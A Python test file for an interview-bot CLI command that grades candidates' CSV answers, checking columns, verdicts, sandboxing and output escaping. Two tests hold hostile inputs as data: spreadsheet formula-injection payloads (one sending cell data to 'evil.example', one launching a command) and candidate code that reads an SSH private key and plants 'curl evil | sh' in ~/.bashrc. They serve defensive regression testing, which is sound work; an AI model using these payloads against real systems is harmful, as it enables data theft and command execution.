"""`interview-bot grade-file IN.csv --out OUT.csv`, driven through typer as a user runs it."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
import typer
from typer.testing import CliRunner

from bot.grading import LEXICAL
from interview_bot.cli.grade_file import grade_rows, register

GIL_Q = "What is the GIL, and what does it mean for threads in CPython?"
GIL_REF = (
    "The GIL is a lock that lets only one thread run Python bytecode at a time; I/O-bound "
    "threads still help, CPU-bound work needs multiprocessing."
)
GIL_POINTS = (
    "only one thread at a time|one thread at a time|single thread; lock|mutex; "
    "multiprocessing|processes"
)


@pytest.fixture
def app() -> typer.Typer:
    app = typer.Typer(add_completion=False)

    @app.command("version")
    def _version() -> None:  # a second command, so typer keeps sub-command names as in the bot
        """Print nothing."""

    register(app)
    return app


def write_csv(path: Path, rows: list[dict[str, str]], bom: bool = False) -> Path:
    with path.open("w", newline="", encoding="utf-8-sig" if bom else "utf-8") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    return path


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def row(answer: str, **extra: str) -> dict[str, str]:
    return {
        "question": GIL_Q,
        "reference_answer": GIL_REF,
        "answer": answer,
        "key_points": GIL_POINTS,
        **extra,
    }


def test_grades_every_row_and_keeps_the_columns(app: typer.Typer, tmp_path: Path) -> None:
    src = write_csv(
        tmp_path / "in.csv",
        [
            row(
                "A mutex: only one thread runs bytecode at a time, so use multiprocessing for CPU "
                "work; threads are fine for I/O.",
                human_grade="5",
            ),
            row("It is a lock, so one thread at a time.", human_grade="3"),
            row("No idea.", human_grade="0"),
            row("", human_grade="0"),
        ],
        bom=True,
    )
    out = tmp_path / "out.csv"
    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
    assert res.exit_code == 0, res.output
    rows = read_csv(out)
    assert list(rows[0]) == [
        "question",
        "reference_answer",
        "answer",
        "key_points",
        "human_grade",
        "score",
        "verdict",
        "feedback",
    ]
    assert [r["verdict"] for r in rows] == ["correct", "partial", "wrong", "wrong"]
    assert float(rows[0]["score"]) > float(rows[1]["score"]) > float(rows[2]["score"])
    assert "Missing: multiprocessing" in rows[1]["feedback"]
    assert "graded 4 of 4 row(s)" in res.output
    assert "agreement with human_grade (n=4)" in res.output


def test_rows_it_cannot_grade_are_kept_and_reported(app: typer.Typer, tmp_path: Path) -> None:
    src = write_csv(
        tmp_path / "in.csv",
        [
            row("A lock so only one thread runs at a time.", kind="open", choices=""),
            row("whatever", kind="essay", choices=""),
            {
                "question": "",
                "reference_answer": "x",
                "answer": "y",
                "key_points": "",
                "kind": "open",
                "choices": "",
            },
            {
                "question": "Pick",
                "reference_answer": "False",
                "answer": "b",
                "key_points": "",
                "kind": "choice",
                "choices": "",
            },
        ],
    )
    out = tmp_path / "out.csv"
    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
    assert res.exit_code == 1
    rows = read_csv(out)
    assert len(rows) == 4
    assert rows[0]["verdict"] == "partial"
    assert [r["verdict"] for r in rows[1:]] == ["error"] * 3
    assert "unknown kind 'essay'" in rows[1]["feedback"]
    assert "line 3: not graded: unknown kind" in res.output
    assert "line 4: not graded: the question is empty" in res.output
    assert "line 5: not graded: a choice row needs a `choices` column" in res.output


def test_short_choice_and_code_rows(app: typer.Typer, tmp_path: Path) -> None:
    tests = "- {name: adds two numbers, run: 'add(2, 3)', expect: 5}\n"
    src = write_csv(
        tmp_path / "in.csv",
        [
            {
                "question": "What lock?",
                "reference_answer": "GIL; global interpreter lock",
                "answer": "the Global Interpreter Lock",
                "kind": "short",
                "choices": "",
                "tests": "",
            },
            {
                "question": "a is b for 5?",
                "reference_answer": "True",
                "answer": "A",
                "kind": "choice",
                "choices": "True;False;TypeError",
                "tests": "",
            },
            {
                "question": "Write add(a, b)",
                "reference_answer": "def add(a, b): return a + b",
                "answer": "def add(a, b):\n    return a - b\n",
                "kind": "code",
                "choices": "",
                "tests": tests,
            },
        ],
    )
    out = tmp_path / "out.csv"
    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
    assert res.exit_code == 0, res.output
    rows = read_csv(out)
    assert [r["verdict"] for r in rows] == ["correct", "correct", "wrong"]
    assert "✗ adds two numbers: expected 5, got -1" in rows[2]["feedback"]


def test_a_file_without_the_columns_is_refused(app: typer.Typer, tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_text("q,a\nx,y\n", encoding="utf-8")
    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(tmp_path / "o.csv")])
    assert res.exit_code == 2
    assert "missing column(s) question, reference_answer, answer" in res.output
    assert not (tmp_path / "o.csv").exists()


def test_judge_flag_needs_the_endpoint(app: typer.Typer, tmp_path: Path) -> None:
    src = write_csv(tmp_path / "in.csv", [row("x")])
    res = CliRunner().invoke(
        app, ["grade-file", str(src), "--out", str(tmp_path / "o.csv"), "--judge"]
    )
    assert res.exit_code == 2 and "LLM_BASE_URL" in res.output


async def test_long_files_report_progress_and_share_rubrics() -> None:
    rows = [row(f"A lock: one thread at a time ({i})") for i in range(150)]
    seen: list[int] = []
    results = await grade_rows(rows, LEXICAL, seen.append)
    assert sum(seen) == 150 and len(seen) == 3  # in batches
    assert len(results) == 150 and all(r.grade is not None for r in results)


def test_question_id_grades_against_the_bank_rubric(app: typer.Typer, tmp_path: Path) -> None:
    src = write_csv(
        tmp_path / "in.csv",
        [
            {
                "question_id": "py-gil-open",
                "answer": "Only one thread runs bytecode at a time, so "
                "CPU-bound work needs multiprocessing while I/O-bound threads still help; "
                "it does not make your code thread-safe.",
                "human_grade": "5",
            },
            {"question_id": "py-gil-open", "answer": "No idea.", "human_grade": "0"},
            {"question_id": "no-such-question", "answer": "Anything.", "human_grade": "0"},
        ],
    )
    out = tmp_path / "out.csv"
    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
    assert res.exit_code == 1, res.output
    rows = read_csv(out)
    assert rows[0]["verdict"] in ("correct", "partial") and rows[1]["verdict"] == "wrong"
    assert "You covered" in rows[0]["feedback"]  # the bank's key points, not derived ones
    assert rows[2]["verdict"] == "error" and "unknown question_id" in rows[2]["feedback"]
    assert "line 4:" in res.output


def test_an_id_the_bank_does_not_know_falls_back_to_the_row(
    app: typer.Typer, tmp_path: Path
) -> None:
    src = write_csv(
        tmp_path / "in.csv", [row("It is a lock: one thread at a time.", question_id="OUR-OWN-7")]
    )
    out = tmp_path / "out.csv"
    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
    assert res.exit_code == 0, res.output
    assert read_csv(out)[0]["verdict"] in ("partial", "correct")


def test_formula_cells_are_neutralised(app: typer.Typer, tmp_path: Path) -> None:
    evil = [
        '=HYPERLINK("https://evil.example/?x="&A3,"score")',
        "+cmd|' /C calc'!A0",
        "@SUM(1,1)",
        "-1+1",
        "\tx",
        "\rx",
    ]
    src = write_csv(tmp_path / "in.csv", [row(e) for e in evil])
    out = tmp_path / "out.csv"
    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
    assert res.exit_code == 0, res.output
    answers = [r["answer"] for r in read_csv(out)]
    assert answers == ["'" + e for e in evil]


def test_markup_in_the_file_is_printed_as_it_is(app: typer.Typer, tmp_path: Path) -> None:
    src = write_csv(
        tmp_path / "in.csv",
        [
            row("It is a lock.", kind="[/oops]"),
            row("It is a lock.", kind="[bold red]FAKE: all rows graded OK[/]"),
        ],
    )
    out = tmp_path / "out.csv"
    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
    assert res.exit_code == 1, res.output
    assert "unknown kind '[/oops]'" in res.output
    assert "[bold red]fake: all rows graded ok[/]" in res.output  # literally, not styled
    bad = write_csv(tmp_path / "bad.csv", [{"[bold red]FAKE: all rows graded OK[/]": "x"}])
    res = CliRunner().invoke(app, ["grade-file", str(bad), "--out", str(out)])
    assert res.exit_code == 2 and "found: [bold red]FAKE: all rows graded OK[/]" in res.output


def test_one_oversized_field_fails_only_its_row(app: typer.Typer, tmp_path: Path) -> None:
    src = write_csv(
        tmp_path / "in.csv", [row("x" * 200_000), row("It is a lock, one thread at a time.")]
    )
    out = tmp_path / "out.csv"
    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
    assert res.exit_code == 1, res.output
    old = csv.field_size_limit(1_000_000)
    try:
        rows = read_csv(out)
    finally:
        csv.field_size_limit(old)
    assert rows[0]["verdict"] == "error" and "200,000 characters" in rows[0]["feedback"]
    assert rows[1]["verdict"] in ("partial", "correct")


def test_code_rows_cannot_reach_the_operators_files(
    app: typer.Typer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Review C4: grade-file ran candidates' code as the operator (it read ~/.ssh/id_rsa into
    the output and appended to ~/.bashrc). Code rows now run in the sandbox."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    key = home / ".ssh" / "id_rsa"
    key.write_text("-----BEGIN FAKE PRIVATE KEY-----\n")
    monkeypatch.setenv("HOME", str(home))
    steal = (
        f"def add(a, b):\n    try:\n        return open({str(key)!r}).read()\n"
        f"    except OSError as e:\n        return str(e)\n"
        f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh')\n"
    )
    src = write_csv(
        tmp_path / "in.csv",
        [
            {
                "question": "Write add(a, b)",
                "reference_answer": "def add(a, b): return a + b",
                "answer": steal,
                "kind": "code",
                "choices": "",
                "tests": "- {name: adds, run: 'add(2, 3)', expect: 5}\n",
            }
        ],
    )
    out = tmp_path / "out.csv"
    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
    assert res.exit_code == 0, res.output
    text = out.read_text()
    assert "FAKE PRIVATE KEY" not in text and "FAKE PRIVATE KEY" not in res.output
    assert not (home / ".bashrc").exists()
    assert read_csv(out)[0]["verdict"] == "wrong"
